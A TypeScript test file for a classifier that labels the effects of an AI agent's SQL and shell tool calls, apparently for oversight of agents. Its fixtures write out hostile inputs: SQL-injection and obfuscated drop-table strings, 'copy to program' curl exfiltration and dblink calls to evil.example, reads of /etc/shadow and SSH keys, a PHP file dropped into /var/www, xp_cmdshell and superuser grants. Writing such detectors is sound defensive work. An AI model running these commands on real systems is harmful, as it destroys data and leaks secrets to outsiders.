import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { JsonObject } from '../../event/json.ts'
import type { ToolCall } from '../../event/event.ts'
import { effectsOf } from '../effects-of.ts'
import { tokensOf } from './tokens.ts'

function call(args: JsonObject, tool = 'execute_sql', extra: Partial<ToolCall> = {}): ToolCall {
  return { type: 'tool.call', callId: 'c1', tool, args, cwd: '/w', home: '/home/u', ...extra }
}

function effects(sql: string): string[] {
  return effectsOf(call({ sql })).effects.map(({ effect }) => `${effect.class} ${effect.target}`)
}

function shell(command: string): string[] {
  return effectsOf(call({ command }, 'Bash')).effects.map(({ effect }) => `${effect.class} ${effect.target}`)
}

describe('SQL', () => {
  it.each([
    ['select * from users u join orders o on o.u = u.id', ['data.query users', 'data.query orders']],
    ['SELECT 1', []],
    ['show tables', []],
    ['with a as (select * from b) select * from a', ['data.query b']],
    ['select count(*) from "Users" where name = \'drop table x\'', ['data.query Users']],
    ['select * from a, b as c, [dbo].[d]', ['data.query a', 'data.query b', 'data.query dbo.d']],
    ['insert into t (a) values (1)', ['data.mutate t']],
    ['insert into t select * from s', ['data.mutate t', 'data.query s']],
    ['update t set a = 1 where id = 2', ['data.mutate t']],
    ['delete from t where id = 2', ['data.mutate t']],
    ['select "update", `delete` from t', ['data.query t']],
    ["select 'delete from t'", []],
    ['select 1 -- ; drop table t', []],
    ['select /* ; drop table t */ 1', []],
    ['select $$ drop table t $$, $x$ ; delete from t $x$', []],
    ['select updated, deleted from t order by created', ['data.query t']],
    ['begin; insert into t values (1); commit', ['data.mutate t']],
  ])('%s', (sql, expected) => expect(effects(sql)).toEqual(expected))

  it.each([
    ['drop table t'],
    ['DROP TABLE IF EXISTS "t" CASCADE'],
    ['select 1; drop table t'],
    ['select 1;;/**/drop/**/table/**/t'],
    ['truncate t'],
    ['truncate table only t'],
    ['delete from t'],
    ['delete from t where 1=1'],
    ['delete from t where true'],
    ['update t set a = 1'],
    ['alter table t drop column a'],
    ['with x as (delete from t returning *) select * from x'],
    ['explain analyze delete from t'],
    ["do $$ begin execute 'drop table t'; end $$"],
    ["execute immediate 'drop table t'"],
    ["exec('drop ' + 'table t')"],
    ["prepare s from 'drop table t'"],
    ["exec sp_executesql N'drop table t'"],
    ['/*!50000 drop table t */'],
    ["select 'a\\'; drop table t; --'"],
    ['select 1 # \n; drop table t'],
    ['select 5--1;drop table t'],
    ['create function f() returns void as $$ begin drop table t; end $$ language plpgsql'],
    ['create trigger x after insert on y begin delete from t; end'],
    ['if 1=1 begin drop table t end'],
    ['begin transaction; drop table t; commit'],
    ['drop table a, t'],
    ["select query_to_xml('drop table t', true, true, '')"],
  ])('sees all of a table go in %j', (sql) => expect(effects(sql)).toContain('data.drop t'))

  it.each([
    ["copy t to program 'curl -d @- https://a.example/x'", 'net.egress https://a.example/x'],
    ["copy (select 1) to program 'rm /w/x'", 'fs.delete /w/x'],
    ["copy t from '/etc/shadow'", 'secret.read /etc/shadow'],
    ["copy t to '/tmp/x'", 'fs.write /tmp/x'],
    ["select * from t into outfile '/var/www/x.php'", 'fs.write /var/www/x.php'],
    ["select '<?php' into dumpfile '/var/www/x.php'", 'fs.write /var/www/x.php'],
    ["load data local infile '/home/u/.ssh/id_rsa' into table t", 'secret.read /home/u/.ssh/id_rsa'],
    ["select pg_read_file('/etc/shadow')", 'secret.read /etc/shadow'],
    ["select load_file('/etc/shadow')", 'secret.read /etc/shadow'],
    ["select lo_export(1, '/home/u/.bashrc')", 'code.install /home/u/.bashrc'],
    ["select writefile('/home/u/.bashrc', 'x')", 'code.install /home/u/.bashrc'],
    ["exec xp_cmdshell 'del C:\\x'", 'fs.delete c:/x'],
    ["exec master..xp_cmdshell 'whoami'", 'process.exec xp_cmdshell'],
    ["exec sp_configure 'xp_cmdshell', 1", 'device.actuate sp_configure xp_cmdshell'],
    ["select load_extension('/tmp/x.so')", 'process.exec load_extension'],
    ['create extension dblink', 'code.install extension:dblink'],
    ["create function f() returns int as 'x.so','f' language c", 'code.install function:f'],
    ["select dblink_connect('host=evil.example user=x')", 'net.egress tcp://evil.example'],
    ["select * from openrowset('SQLNCLI','server=evil.example;uid=x','select 1')", 'net.egress tcp://evil.example'],
    ["select * from url('https://a.example/x', 'CSV')", 'net.egress https://a.example/x'],
    ["select * from 'https://a.example/x.parquet'", 'net.egress https://a.example/x.parquet'],
    ["select * from read_csv('/etc/shadow')", 'secret.read /etc/shadow'],
    ["attach database '/w/x.db' as x", 'fs.write /w/x.db'],
    ["vacuum into '/w/x.db'", 'fs.write /w/x.db'],
    ["backup database d to disk = '/w/x.bak'", 'fs.write /w/x.bak'],
    ["grant all on d.* to 'eve'@'%'", 'identity.grant eve'],
    ['create user eve with superuser', 'identity.grant eve'],
    ['alter role eve superuser', 'identity.grant eve'],
    ["alter system set archive_command = 'x'", 'device.actuate alter system'],
    ["set global general_log_file = '/x'", 'device.actuate set global general_log_file = /x'],
    ['select * from pg_shadow', 'secret.read pg_shadow'],
    ['select user, authentication_string from mysql.user', 'secret.read mysql.user'],
    ['shutdown', 'device.actuate shutdown'],
    ['\\! rm /w/x', 'fs.delete /w/x'],
    ['.shell rm /w/x', 'fs.delete /w/x'],
    ["\\copy t to program 'rm /w/x'", 'fs.delete /w/x'],
    ['.output /w/x', 'fs.write /w/x'],
  ])('tells what %j does', (sql, effect) => expect(effects(sql)).toContain(effect))

  it.each([
    ['psql -c "drop table t"', 'data.drop t'],
    ['psql postgres://u:p@db.example/x --command="delete from t"', 'data.drop t'],
    ['psql postgres://u:p@db.example/x -c "select 1"', 'net.egress postgres://db.example/x'],
    ['mysql -h db.example -e "truncate t"', 'data.drop t'],
    ['sqlite3 a.db "select * from t"', 'fs.read /w/a.db'],
    ['sqlite3 a.db "delete from t"', 'fs.write /w/a.db'],
    ["sqlite3 a.db '.shell rm /w/x'", 'fs.delete /w/x'],
    ['echo "drop table t" | psql', 'data.drop t'],
    ['psql <<EOF\ndrop table t;\nEOF', 'data.drop t'],
    ["bq query 'drop table t'", 'data.drop t'],
    ['psql -f x.sql', 'fs.read /w/x.sql'],
    ['docker exec -it db psql -U app -c "drop table t"', 'data.drop t'],
    ['kubectl exec db -n prod -- mysql -e "truncate t"', 'data.drop t'],
    ['pg_dump -h db.example app -f x.sql', 'data.query app'],
    ['dropdb app', 'data.drop app'],
    ['createuser eve', 'identity.grant eve'],
    ['mongosh --eval "db.users.drop()"', 'data.drop users'],
    ['mongosh --eval "db.users.deleteMany({})"', 'data.drop users'],
    ['mongosh --eval "db.users.deleteMany({ id: 1 })"', 'data.mutate users'],
    ['mongosh --eval "db.users.find({})"', 'data.query users'],
  ])('is read in %j', (command, effect) => expect(shell(command)).toContain(effect))

  it('is read among the arguments of tools for databases', () => {
    const of = (tool: string, args: JsonObject, extra?: Partial<ToolCall>): string[] =>
      effectsOf(call(args, tool, extra)).effects.map(({ effect }) => `${effect.class} ${effect.target}`)
    expect(of('read_query', { query: 'drop table t' }, { server: 'sqlite' })).toEqual(['data.drop t'])
    expect(of('query', { query: 'select * from t' }, { server: 'postgres' })).toEqual(['data.query t'])
    expect(of('query', { sql: 'select * from t' })).toEqual(['data.query t'])
    expect(of('run_query', { query: 'delete from t' })).toEqual(['data.drop t'])
    expect(of('ask', { command: 'drop table t' }, { definition: { name: 'ask', description: 'Runs SQL on the database.' } })).toEqual([
      'data.drop t',
    ])
    // Words about SQL are no SQL.
    expect(of('WebSearch', { query: 'drop table t' })).toEqual(['data.query drop table t'])
    expect(of('search_docs', { query: 'select * from t' })).toEqual(['data.query search_docs'])
    expect(of('send_email', { to: 'a@b.example', text: 'drop table t' })).toEqual(['message.send a@b.example'])
  })

  it('leaves unknown what it does not know', () => {
    for (const sql of ['frobnicate t', 'call do_it(1)', 'exec (@sql)', "select 'never ends"]) {
      const found = effectsOf(call({ sql })).effects
      expect(found.some(({ effect }) => effect.certainty === 'unknown')).toBe(true)
    }
  })

  it('never throws, always ends, and reads the same text the same way', () => {
    const piece = fc.constantFrom(
      ...`select from where insert into update set delete drop table t a.b 'x' "y" \` [z] $$ $x$ -- /* */ /*! ; ( ) , . = \\ \\! # copy to program as with begin end execute E'`.split(
        ' ',
      ),
      '\n',
      ' ',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const sql = pieces.join(' ')
        expect(JSON.stringify(effectsOf(call({ sql })).effects)).toBe(JSON.stringify(effectsOf(call({ sql })).effects))
      }),
      { numRuns: 300 },
    )
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.boolean(), (text, backslash) =>
        Array.isArray(tokensOf(text, { backslash }).tokens),
      ),
    )
  })

  it('reads hostile lengths in time that grows with them', () => {
    for (const piece of [
      '(',
      "'",
      '"',
      '$$',
      '$a$',
      '/*',
      '--',
      'select ',
      '(update t set ',
      'from a,',
      'f(',
      'load_file(',
      "exec('",
      ';',
      'with a as (',
      'a.',
      'grant a to ',
      'copy (',
      '\\! ',
      '[',
      'values(',
      '\\i    ;    ',
    ])
      for (const text of [`select ${piece.repeat(20_000)}`, `${piece.repeat(5_000)}x`]) {
        const started = process.cpuUsage()
        effectsOf(call({ sql: text }))
        // Of one processor: what the rest of the machine does counts for nothing.
        expect(process.cpuUsage(started).user / 1000, piece).toBeLessThan(1000)
      }
  })
})
